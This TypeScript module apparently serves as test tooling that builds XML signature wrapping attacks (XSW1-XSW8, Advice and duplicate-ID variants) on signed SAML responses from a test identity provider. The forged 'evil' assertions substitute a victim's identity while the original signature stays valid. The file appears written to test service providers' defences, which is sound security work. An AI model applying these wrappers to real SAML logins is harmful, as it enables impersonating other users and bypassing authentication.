/**
 * XML signature wrapping (XSW) of SAML responses, as SAMLRaider's XSW1-XSW8 and "On Breaking SAML" (USENIX
 * Security 2012) build them, plus the duplicated-assertion and Advice variants. Plain string surgery on the
 * test IdP's own Entra-shaped output (unprefixed Assertion, `ds:` signatures, `samlp:` protocol), done after
 * xmlsec1 signed it, so the signature stays valid over the element it references: the attack is only in
 * where that element now sits and which element an SP would read.
 */

const SIG = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/;
const ASSERTION = /<Assertion\b[\s\S]*<\/Assertion>/;

export const EVIL_ASSERTION_ID = '_evil_assertion_id';
export const EVIL_RESPONSE_ID = '_evil_response_id';

/** The Response split around its one (unprefixed) Assertion. */
function split(xml: string): { before: string; assertion: string; after: string } {
  const m = ASSERTION.exec(xml);
  if (!m) throw new Error('no Assertion to wrap');
  return { before: xml.slice(0, m.index), assertion: m[0], after: xml.slice(m.index + m[0].length) };
}

const withoutSignature = (x: string): string => x.replace(SIG, '');
/** The element's own ID (its first ID attribute). */
const withId = (x: string, id: string): string => x.replace(/\bID="[^"]*"/, `ID="${id}"`);

/** Replaces the signed-in user's identity with the victim's in text content and attribute values. */
export type Evil = (xml: string) => string;

export type XswVariant =
  | 'XSW1'
  | 'XSW2'
  | 'XSW3'
  | 'XSW4'
  | 'XSW5'
  | 'XSW6'
  | 'XSW7'
  | 'XSW8'
  | 'advice'
  | 'evil-after'
  | 'same-id-before'
  | 'same-id-after';

/** What each variant does, for test names. */
export const XSW: Record<XswVariant, { signs: 'response' | 'assertion'; what: string }> = {
  XSW1: { signs: 'response', what: 'an evil Response (new ID) whose Signature holds the signed original Response' },
  XSW2: { signs: 'response', what: 'an evil Response (new ID) with the signed original Response before its Signature' },
  XSW3: { signs: 'assertion', what: 'an evil Assertion (new ID) before the signed one' },
  XSW4: { signs: 'assertion', what: 'an evil Assertion (new ID) wrapping the signed one' },
  XSW5: { signs: 'assertion', what: 'the evil Assertion carries the signature, an unsigned copy of the original at the end of the Response' },
  XSW6: { signs: 'assertion', what: 'the evil Assertion carries the signature, the original copy inside that Signature' },
  XSW7: { signs: 'assertion', what: 'the original copy in Extensions, the evil Assertion (same ID, signature kept) in place' },
  XSW8: { signs: 'assertion', what: 'the original copy in a ds:Object of the evil Assertion\'s Signature (same ID)' },
  advice: { signs: 'assertion', what: 'the signed Assertion in the Advice of an evil unsigned one' },
  'evil-after': { signs: 'assertion', what: 'an evil unsigned Assertion (new ID) after the signed one' },
  'same-id-before': { signs: 'assertion', what: 'an evil unsigned Assertion with the same ID before the signed one' },
  'same-id-after': { signs: 'assertion', what: 'an evil unsigned Assertion with the same ID after the signed one' },
};

/**
 * Wraps a signed response. `xml` must be signed as XSW[variant].signs says: the Response (assertion unsigned)
 * for XSW1/2, the Assertion (response unsigned) for the others.
 */
export function wrap(variant: XswVariant, xml: string, evil: Evil): string {
  if (XSW[variant].signs === 'response') {
    // The Response's signature is the only one; the original Response, unsigned, keeps its digest (enveloped).
    const original = withoutSignature(xml);
    const evilRoot = evil(withId(xml, EVIL_RESPONSE_ID));
    return variant === 'XSW1' ? evilRoot.replace('</ds:Signature>', `${original}</ds:Signature>`) : evilRoot.replace(/<ds:Signature\b/, `${original}$&`);
  }
  const { before, assertion: signed, after } = split(xml);
  const copy = withoutSignature(signed);
  const evilNew = evil(withId(copy, EVIL_ASSERTION_ID));
  const end = '</samlp:Response>';
  switch (variant) {
    case 'XSW3':
      return before + evilNew + signed + after;
    case 'XSW4':
      return before + evilNew.replace(/<\/Assertion>$/, `${signed}</Assertion>`) + after;
    case 'XSW5':
      return before + evil(withId(signed, EVIL_ASSERTION_ID)) + after.replace(end, `${copy}${end}`);
    case 'XSW6':
      return before + evil(withId(signed, EVIL_ASSERTION_ID)).replace('</ds:Signature>', `${copy}</ds:Signature>`) + after;
    case 'XSW7':
      return before.replace('<samlp:Status>', `<samlp:Extensions>${copy}</samlp:Extensions><samlp:Status>`) + evil(signed) + after;
    case 'XSW8':
      return before + evil(signed).replace('</ds:Signature>', `<ds:Object>${copy}</ds:Object></ds:Signature>`) + after;
    case 'advice':
      return before + evilNew.replace('</Conditions>', `</Conditions><Advice>${signed}</Advice>`) + after;
    case 'evil-after':
      return before + signed + evilNew + after;
    case 'same-id-before':
      return before + evil(copy) + signed + after;
    case 'same-id-after':
      return before + signed + evil(copy) + after;
    default:
      throw new Error(`not an assertion variant: ${variant}`);
  }
}

/**
 * The part of a wrapped document that the signature referencing `#refId` covers, cut out as a standalone
 * document for xmlsec1 (which, being strict, refuses the wrapped documents themselves: duplicate IDs, foreign
 * children in ds:Signature). Each element with that ID, and the signature put back after its Issuer when the
 * element is the unsigned copy. The attack needs one of them to verify.
 */
export function signedParts(wrapped: string, refId: string): string[] {
  const sig = new RegExp(`<ds:Signature\\b[^>]*>(<ds:SignedInfo>(?:(?!</ds:SignedInfo>)[\\s\\S])*URI="#${refId}"[\\s\\S]*?</ds:SignedInfo>\\s*<ds:SignatureValue>[^<]*</ds:SignatureValue>\\s*<ds:KeyInfo>[\\s\\S]*?</ds:KeyInfo>)`).exec(wrapped);
  if (!sig) return [];
  const signature = `<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${sig[1]}</ds:Signature>`;
  const parts: string[] = [];
  for (const m of wrapped.matchAll(new RegExp(`<((?:samlp:)?(?:Assertion|Response))\\b[^>]*\\bID="${refId}"`, 'g'))) {
    const name = m[1] ?? '';
    const endTag = `</${name}>`;
    const end = wrapped.indexOf(endTag, m.index);
    const element = wrapped.slice(m.index, end + endTag.length);
    parts.push(element.includes('<ds:Signature') ? element : element.replace('</Issuer>', `</Issuer>${signature}`));
  }
  return parts;
}
